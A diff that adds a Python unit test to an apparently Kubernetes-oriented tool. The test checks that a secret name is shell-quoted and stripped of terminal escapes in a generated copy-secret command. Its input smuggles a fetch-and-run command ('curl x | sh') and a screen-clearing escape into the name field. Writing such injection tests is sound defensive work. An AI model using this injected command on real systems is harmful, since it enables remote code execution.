@@ -165,6 +165,16 @@ def test_the_earlier_controller_is_found_by_its_image(*, image: str, replicas: i
     assert bool(plan_controllers([deployment])) is is_found
 
 
+def test_a_secret_that_is_named_like_a_command_is_quoted_in_the_command() -> None:
+    """The earlier controller's definition allowed any name."""
+    storage = {"krateo": {"api": {"endpointRef": {"name": "a; curl x | sh\x1b[2J", "namespace": "central"}}}}
+    of_config = config(storage={"input": storage})
+    of_run = run(configRef={"name": of_config.metadata.name})
+    [action] = plan_secrets([of_run], [of_config])
+    assert action.why == "inferrun copy-secret 'a; curl x | sh' --from central --to models"
+    assert all(line.isprintable() for line in lines([action]))
+
+
 def test_the_table_is_aligned() -> None:
     actions = planned(run(status=OLD, metadata=FINALIZED), Owned([old_job(condition="Complete")]))
     rows = list(lines(actions))
